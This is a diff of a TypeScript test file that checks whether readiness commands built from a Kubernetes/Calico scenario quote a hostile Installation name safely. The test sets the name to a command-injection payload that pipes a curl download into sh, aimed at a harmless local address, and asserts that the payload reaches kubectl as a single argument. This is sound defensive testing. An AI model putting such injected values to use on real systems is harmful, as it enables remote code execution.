@@ -1,7 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { PRESETS } from '../presets/catalog';
-import { loadScenarioText } from '../scenario/load';
+import { loadPreset } from '../presets/catalog';
 import { compileScenario } from '../trace/cluster';
 import { checkReadiness } from './check';
 import { shellJson, shellQuote } from './shell';
@@ -27,13 +26,13 @@ describe('shellQuote', () => {
 
 describe('readiness commands from a hostile scenario', () => {
   it('an Installation named with shell in it never reaches a command unquoted', () => {
-    const lab = PRESETS.find((p) => p.name === 'k8s-main-before')!.yaml;
     const payload = 'default; curl -s http://127.0.0.1:9/x | sh; #';
-    const hostile = lab.replace(/(kind: Installation\nmetadata:\n  name: )default/, `$1${JSON.stringify(payload)}`);
-    const loaded = loadScenarioText(hostile, 'hostile');
-    if (!loaded.scenario) return; // the loader may refuse the name outright (DNS-1123): then nothing reaches a command
-    const cluster = compileScenario(loaded.scenario);
-    const commands = checkReadiness(loaded.scenario, cluster, { planWindows: true }).flatMap((f) => f.fix.commands ?? []);
+    const loaded = loadPreset('k8s-main-before');
+    // The loader refuses such a name (DNS-1123); quoting must hold whatever the source, so the name is set after loading.
+    const scenario = structuredClone(loaded.scenario!);
+    scenario.calico!.installation = { ...scenario.calico!.installation!, name: payload };
+    const cluster = compileScenario(scenario);
+    const commands = checkReadiness(scenario, cluster, { planWindows: true }).flatMap((f) => f.fix?.commands ?? []);
     expect(commands.some((c) => c.includes('curl'))).toBe(true);
     for (const c of commands) {
       // The shell sees kubectl's arguments only: the payload, if present, is one argument.
